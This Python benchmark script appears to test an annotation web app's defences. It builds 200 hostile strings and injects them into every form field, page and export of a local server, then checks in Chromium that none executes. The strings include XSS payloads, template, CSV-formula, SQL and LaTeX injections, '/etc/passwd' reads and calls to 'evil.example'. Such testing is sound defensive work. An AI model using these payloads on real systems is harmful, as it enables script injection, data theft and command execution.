"""200 hostile strings in every field, on every page, in the report and in the exports, in a real Chromium: none runs.

    python benchmarks/annotate_hostile.py --strings 200

A string runs if it opens a dialog, sets `window.hit`, loads anything from elsewhere, or becomes an element of the page.
"""

from __future__ import annotations

import argparse
import csv
import io
import json
import re
import tempfile
import uuid
import zipfile
from pathlib import Path
from typing import Any

import httpx
from annotate_parts import ROOT, load_average
from browsing import chromium
from servers import Server
from visitors import write_lines

RUN = ("window.hit=1", "alert(1)", "fetch('//evil.example')", "document.title='hit'")
SHAPES = (
    "<script>{run}</script>",
    '<img src=x onerror="{run}">',
    "<svg onload={run}>",
    "<svg><script>{run}</script></svg>",
    '"><script>{run}</script>',
    "'><img src=x onerror={run}>",
    '" onfocus="{run}" autofocus x="',
    "' onmouseover='{run}' style='position:fixed;inset:0' ",
    "</textarea><script>{run}</script>",
    "</title><script>{run}</script>",
    "</style><script>{run}</script>",
    "--><script>{run}</script><!--",
    "]]><script>{run}</script>",
    "<iframe srcdoc='<script>parent.{run}</script>'></iframe>",
    "<iframe src=javascript:{run}></iframe>",
    "<a href=javascript:{run} autofocus>x</a>",
    "<details open ontoggle={run}>",
    "<body onload={run}>",
    "<input autofocus onfocus={run}>",
    "<video><source onerror={run}></video>",
    "<math><mtext></form><form><mglyph><style></math><img src=x onerror={run}>",
    "<style>@import 'http://evil.example/x.css';</style>{run}",
    "<link rel=stylesheet href=http://evil.example/x.css>{run}",
    "<meta http-equiv=refresh content='0;url=javascript:{run}'>",
    "<base href=http://evil.example/>{run}",
    "<object data=javascript:{run}></object>",
    "<embed src=javascript:{run}>",
    "<form action=http://evil.example><button autofocus>{run}</button></form>",
    "{{{{constructor.constructor('{run}')()}}}}",
    "{{% raw %}}<script>{run}</script>{{% endraw %}}",
    "${{{run}}}",
    "<%= {run} %>",
    "\\u003cscript\\u003e{run}\\u003c/script\\u003e",
    "&lt;script&gt;{run}&lt;/script&gt;",
    "&#x3C;script&#x3E;{run}&#x3C;/script&#x3E;",
    "%3Cscript%3E{run}%3C/script%3E",
    "＜script＞{run}＜/script＞",
    "java\tscript:{run}",
    "<scr\x00ipt>{run}</scr\x00ipt>",
    "=cmd|'/C calc'!A0 {run}",
    "+1+cmd|'/C calc'!A0 {run}",
    "-2+3+cmd|'/C calc'!A0 {run}",
    "@SUM(1+1)*cmd|'/C calc'!A0 {run}",
    '\t=HYPERLINK("http://evil.example?{run}")',
    "%0A=1+1;{run}",
    "'; DROP TABLE answers; -- {run}",
    "\\input{{/etc/passwd}} \\write18{{{run}}}",
    "$\\immediate\\write18{{ls}}$ % {run}",
    "`![x](javascript:{run})` [x](javascript:{run})",
    "‮<script>{run}</script>‬ \u200b\ufeff",
)


def hostile(count: int) -> list[str]:
    made = [shape.format(run=run) for run in RUN for shape in SHAPES]
    assert len(made) >= count, len(made)
    return made[:count]


class Watch:
    """A page, and what a string managed to do in it."""

    def __init__(self, browser: Any, base: str) -> None:
        self.context = browser.new_context()
        self.context.add_init_script("window.hit = 0")
        self.page = self.context.new_page()
        self.pages, self.ran, self.base = 0, [], base  # type: ignore[var-annotated]
        self.page.on("dialog", lambda dialog: (self.ran.append(f"dialog on {self.page.url}"), dialog.dismiss()))
        self.page.on("request", self._asked)

    def _asked(self, request: Any) -> None:
        if not request.url.startswith((self.base, "data:", "file:", "about:", "blob:")):
            self.ran.append(f"asked for {request.url}")

    def look(self, address: str) -> None:
        self.page.goto(address)
        self.pages += 1
        self.page.mouse.move(100, 300)
        odd = self.page.evaluate(
            "() => [window.hit, document.title === 'hit', document.querySelectorAll('iframe, object, embed, base, math,"
            " [onerror], [onload], [onfocus], [onmouseover], [ontoggle], script:not([src])').length]"
        )
        if address.startswith("file:"):
            odd[2] = 0  # a report has scripts of its own, named by hash in its policy
        if any(odd):
            self.ran.append(f"{address}: {odd}")


def project(folder: Path, kind: str, strings: list[str]) -> dict[str, Any]:
    """A project whose title, texts and units are hostile too."""
    from proband.annotate.create import init

    texts = {"contact": strings[0], "consent": strings[1], "instructions": "\n\n".join(strings[:40])}
    settings = {
        "people": {"overlap": 1},
        "texts": texts,
        "quality": {"comprehension": [{"question": strings[2], "options": [strings[3], strings[4]]}]},
    }
    samples = ROOT / "src" / "proband" / "data" / "annotate"
    if kind == "simplify":
        rows = [{"id": f"c{n} {text}", "caption": text} for n, text in enumerate(strings)]
    elif kind == "judge":
        candidates = [{"id": f"x{n}", "text": text, "answer": "Eritrea"} for n, text in enumerate(strings)]
        groups = [candidates[at : at + 20] for at in range(0, len(candidates), 20)]
        rows = [
            {"id": f"q{n}", "question": strings[n], "q_type": strings[n + 1], "candidates": group}
            for n, group in enumerate(groups)
        ]
    elif kind == "review":
        first = json.loads((samples / "stories.jsonl").read_text().splitlines()[0])
        rows = [
            {**first, "id": f"s{n}", "author": f"a{n}", "text": text, "facts": [text, text], "implied_fact": text}
            for n, text in enumerate(strings)
        ]
    elif kind == "solve":
        first = json.loads((samples / "solve.jsonl").read_text().splitlines()[0])
        rows = [
            {**first, "id": f"i{n}", "prompt": f"{text}\n{text}", "choices": [text, "b"], "gold": 0}
            for n, text in enumerate(strings)
        ]
    else:
        first = json.loads((samples / "write.jsonl").read_text().splitlines()[0])
        rows = []
        for n, text in enumerate(strings):
            names = [f"{name} {text}" for name in first["facts"]["names"]]
            rows.append({**first, "id": f"w{n}", "facts": {**first["facts"], "names": names}})
    items = write_lines(folder / f"{kind}.jsonl", rows)
    return init(folder / kind, kind=kind, items=items, title=strings[5][:200], settings_given=settings)


def bodies(kind: str, unit: dict[str, Any], text: str) -> dict[str, Any]:
    body = unit["body"]
    if kind == "write":
        return {"story": text, "sure": True}
    if kind == "simplify":
        return {"steps": [text] * 5}
    if kind == "judge":
        return {"labels": {c["id"]: "yes" for c in body["candidates"]}}
    if kind == "review":
        return {"verdicts": [{"story": s["id"], "verdict": "good", "reason": ""} for s in body["stories"]]}
    return {"choice": body["choices"][0], "difficulty": 1, "overtime": False}


def attack(browser: Any, folder: Path, kind: str, strings: list[str], pages: int) -> tuple[Watch, Path]:
    from proband.annotate import visit as steps
    from proband.annotate.site.app import application
    from proband.annotate.site.context import open_study
    from proband.annotate.site.tokens import form_token, new_link
    from proband.annotate.store import people as people_store

    made = project(folder, kind, strings)
    study = open_study(folder / kind)
    object.__setattr__(study, "visits", type(study.visits)(burst=1e9, per_second=1e9))
    server = Server(application(study))
    watch = Watch(browser, server.url)
    link = new_link(study.secret, "crowd", name="attacker")
    watch.look(f"{server.url}/join/{link}")
    home = watch.page.url
    token = form_token(study.secret, home.rpartition("/")[2])
    with httpx.Client(timeout=30) as client:
        client.post(f"{home}/consent", data={"form": token, "agree": "yes", "signals": "yes"})
        watch.look(home)
        worker = study.database.read(lambda c: c.exec_driver_sql("SELECT worker FROM people").scalar())
        study.database.write(lambda c: people_store.try_comprehension(c, worker, right=True, attempts=2))
        for number, text in enumerate(strings):
            step = study.database.write(lambda c: steps.advance(c, study.project, worker))
            if step.name != "unit":
                break
            unit = step.unit
            draft = {"form": token, "unit": str(unit["id"]), "story": text, **{f"s{n}": text for n in range(5)}}
            client.post(f"{home}/draft", data=draft)
            sent = {**draft, "id": text}  # refused, and shown again without a script
            client.post(f"{home}/answer", data=sent)
            if number < pages:
                watch.look(home)
            body, made_id = bodies(kind, unit, text), str(uuid.uuid4())
            study.database.write(
                lambda c, u=unit, b=body, i=made_id: steps.submit(  # type: ignore[misc]
                    c,
                    study.project,
                    study.kind,
                    worker,
                    answer_id=i,
                    unit_id=u["id"],
                    body=b,
                    signals={},
                )
            )
            if number < pages:
                watch.look(f"{home}/change")
        study.database.write(lambda c: people_store.decide(c, 1, "", " ".join(strings[:50])))
    watch.look(home)
    watch.page.goto(f"{server.url}/owner/login")
    watch.page.fill("#password", made["password"])
    watch.page.keyboard.press("Enter")
    watch.page.wait_for_selector("dl.figures")
    for where in ("", "/people", "/person/1", "/disputes", "/plan", "/links"):
        watch.look(f"{server.url}/owner{where}")
    cookies = {each["name"]: each["value"] for each in watch.context.cookies()}
    with httpx.Client(cookies=cookies, timeout=60) as client:
        table = client.get(f"{server.url}/owner/export/csv")
        for row in csv.reader(io.StringIO(table.text)):
            assert not any(re.match(r"\s*[=+@|%]|\s*-\D", cell) for cell in row), row
        packed = client.get(f"{server.url}/owner/export/suite").content
    watch.context.close()
    server.stop()
    out = folder / f"{kind}-suite"
    with zipfile.ZipFile(io.BytesIO(packed)) as archive:
        archive.extractall(out)
    return watch, out


def report_of(folder: Path, suite: Path) -> Path:
    """The hostile explanations as cloze items, run and reported."""
    from proband.cli import main as proband

    corpus = ROOT / "src" / "proband" / "data" / "script" / "corpus-cooking.tsv"
    pairs = suite / "pairs.jsonl"
    with open(pairs, "a", encoding="utf-8") as file, open(corpus, newline="") as rows:
        for row in csv.DictReader(rows, delimiter="\t"):
            file.write(json.dumps({"abstract": row["abstract"], "concrete": row["concrete"], "split": "test"}) + "\n")
    for words in (
        ["build", "script", "--data", str(pairs), "-o", str(folder / "items")],
        ["run", str(folder / "items"), "-m", "solver:chance", "-o", str(folder / "run")],
        ["report", str(folder / "run"), "-o", str(folder / "report")],
    ):
        assert proband([*words, "--json"]) == 0, words
    return folder / "report" / "index.html"


def main() -> None:
    parser = argparse.ArgumentParser(description=__doc__)
    parser.add_argument("--strings", type=int, default=200)
    parser.add_argument("--pages", type=int, default=40, help="units of each kind opened in the browser")
    parser.add_argument("--kinds", default="write,review,judge,simplify,solve")
    given = parser.parse_args()
    strings, pages, ran = hostile(given.strings), 0, []
    with tempfile.TemporaryDirectory() as name, chromium() as browser:
        for kind in given.kinds.split(","):
            watch, suite = attack(browser, Path(name), kind, strings, given.pages)
            pages, ran = pages + watch.pages, [*ran, *watch.ran]
            if kind in ("simplify", "solve"):
                if kind == "simplify":
                    page = report_of(Path(name), suite)
                else:
                    from proband.cli import main as proband

                    assert proband(["report", str(suite / "runs"), "-o", str(Path(name) / "people"), "--json"]) == 0
                    page = Path(name) / "people" / "index.html"
                look = Watch(browser, "file:")
                look.look(page.as_uri())
                pages, ran = pages + look.pages, [*ran, *look.ran]
                look.context.close()
    print(f"{len(strings)} hostile strings, {pages} pages opened, {len(ran)} strings ran ({load_average()})")
    assert not ran, ran[:5]
    assert pages >= 20


if __name__ == "__main__":
    main()
